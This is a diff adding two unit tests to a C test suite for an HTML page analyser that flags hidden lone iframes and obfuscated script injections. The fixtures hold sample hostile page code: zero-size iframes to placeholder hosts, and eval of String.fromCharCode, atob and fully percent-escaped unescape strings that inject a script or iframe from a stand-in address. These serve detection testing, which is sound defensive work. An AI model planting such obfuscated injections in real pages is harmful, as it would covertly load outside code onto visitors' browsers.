@@ -373,6 +373,119 @@ static void test_merge(void **state)
 }
 
 /* Unclosed tags, quotes and comments end at the text's end. */
+/* A bare hidden frame to a host the page names nowhere else is lone; one whose host the page
+ * names again (its ad's script, a link) is not, and a visible embed beside it changes nothing. */
+static void test_lone_frames(void **state)
+{
+        (void)state;
+        struct pageshape m =
+                page("<html><body><iframe src=\"https://www.youtube.com/embed/x\" width=\"560\" "
+                     "height=\"315\" allowfullscreen></iframe>"
+                     "<iframe src=\"http://stats.example.net/\" width=\"0\" height=\"0\" "
+                     "frameborder=\"0\"></iframe></body></html>",
+                     NULL);
+        assert_int_equal(m.iframes, 2);
+        assert_int_equal(m.bare_iframes, 1);
+        assert_int_equal(m.bare_lone_iframes, 1);
+
+        m = page("<html><head><script src=\"https://ads.example.net/tag.js\"></script></head>"
+                 "<body><iframe src=\"https://ads.example.net/\" width=\"1\" height=\"1\">"
+                 "</iframe></body></html>",
+                 NULL);
+        assert_int_equal(m.bare_iframes, 1);
+        assert_int_equal(m.bare_lone_iframes, 0);
+
+        /* the frame's domain named by another host under it (safeframe containers beside the
+         * ad's own script); a fragment carries data as a query does */
+        m = page("<html><head><script src=\"https://pagead2.example.com/tag.js\"></script></head>"
+                 "<body><iframe src=\"https://tpc.example.com/container.html\" "
+                 "style=\"display:none\"></iframe><iframe src=\"http://c.other.co.uk/b.html#x7\" "
+                 "width=0 height=0></iframe></body></html>",
+                 NULL);
+        assert_int_equal(m.bare_iframes, 2);
+        assert_int_equal(m.bare_lone_iframes, 0);
+
+        /* under a country's second level the domain is three labels: www.other.co.uk names
+         * the frame's, www.co.uk would not */
+        m = page("<html><body><a href=\"https://www.other.co.uk/\">home</a>"
+                 "<iframe src=\"http://a.b.other.co.uk/\" width=0 height=0></iframe></body></html>",
+                 NULL);
+        assert_int_equal(m.bare_lone_iframes, 0);
+        m = page("<html><body><a href=\"https://www.co.uk/\">home</a>"
+                 "<iframe src=\"http://a.b.other.co.uk/\" width=0 height=0></iframe></body></html>",
+                 NULL);
+        assert_int_equal(m.bare_lone_iframes, 1);
+
+        /* two frames to one host the page names only in them; a longer name holding the host
+         * is another host */
+        m = page("<html><body><a href=\"http://www.stats.example.net.other.org/\">x</a>"
+                 "<iframe src=\"http://stats.example.net/a\" width=0 height=0></iframe>"
+                 "<iframe src=\"http://stats.example.net/b\" style=\"display:none\"></iframe>"
+                 "</body></html>",
+                 NULL);
+        assert_int_equal(m.bare_lone_iframes, 2);
+}
+
+/* A whole literal decoded by fromCharCode, atob or unescape and run or written, whose text
+ * makes a script or iframe to a web address or redirects: counted; a literal joined with a
+ * variable (the old analytics snippet), a decoded text that writes no element, and a call that
+ * is not run or written are not. */
+static void test_decoded_injections(void **state)
+{
+        (void)state;
+        /* var s = document.createElement("script"); s.src = "http://a.b/c"; */
+        static const char charcodes[] =
+                "118,97,114,32,115,61,100,111,99,117,109,101,110,116,46,99,114,101,97,116,101,"
+                "69,108,101,109,101,110,116,40,34,115,99,114,105,112,116,34,41,59,115,46,115,"
+                "114,99,61,34,104,116,116,112,58,47,47,97,46,98,47,99,34,59";
+        char html[1024];
+        snprintf(html, sizeof(html),
+                 "<html><head><script>eval(String.fromCharCode(%s));</script></head></html>",
+                 charcodes);
+        assert_int_equal(page(html, NULL).decoded_injections, 1);
+        snprintf(html, sizeof(html),
+                 "<html><head><script>var x = String.fromCharCode(%s);</script></head></html>",
+                 charcodes);
+        assert_int_equal(page(html, NULL).decoded_injections, 0);
+
+        /* document.write("<iframe src='http://x.example/'></iframe>") in base64 */
+        assert_int_equal(
+                page("<html><script>eval(atob('ZG9jdW1lbnQud3JpdGUoIjxpZnJhbWUgc3JjPSdodHRwOi8v"
+                     "eC5leGFtcGxlLyc+PC9pZnJhbWU+Iik='));</script></html>",
+                     NULL)
+                        .decoded_injections,
+                1);
+        assert_int_equal(page("<html><script>document.write(unescape(\"%3Cscript src='\" + host + "
+                              "\"ga.js'%3E%3C/script%3E\"));</script></html>",
+                              NULL)
+                                 .decoded_injections,
+                         0);
+        /* a tag with only its < and > escaped is a page's convention; every byte escaped is
+         * hidden code */
+        assert_int_equal(page("<html><script>document.write(unescape('%3Cscript "
+                              "src=%22http://x.example/a.js%22%3E%3C/script%3E'));</script></html>",
+                              NULL)
+                                 .decoded_injections,
+                         0);
+        assert_int_equal(page("<html><script>document.write(unescape('%3C%73%63%72%69%70%74%20%73"
+                              "%72%63%3D%22%68%74%74%70%3A%2F%2F%78%2E%65%78%61%6D%70%6C%65%2F%61"
+                              "%2E%6A%73%22%3E%3C%2F%73%63%72%69%70%74%3E'));</script></html>",
+                              NULL)
+                                 .decoded_injections,
+                         1);
+        assert_int_equal(page("<html><script>document.write(unescape('%3Cb%3Ehello%3C/b%3E'));"
+                              "</script></html>",
+                              NULL)
+                                 .decoded_injections,
+                         0);
+        /* an unclosed literal or list ends at the block */
+        assert_int_equal(
+                page("<html><script>eval(atob('ZG9j</script></html>", NULL).decoded_injections, 0);
+        assert_int_equal(
+                page("<html><script>eval(String.fromCharCode(60,115,99", NULL).decoded_injections,
+                0);
+}
+
 static void test_hostile(void **state)
 {
         (void)state;
@@ -415,6 +528,8 @@ int main(void)
                 cmocka_unit_test(test_gate),
                 cmocka_unit_test(test_script_edges),
                 cmocka_unit_test(test_unclosed_hidden),
+                cmocka_unit_test(test_lone_frames),
+                cmocka_unit_test(test_decoded_injections),
         };
         return cmocka_run_group_tests(tests, NULL, NULL);
 }
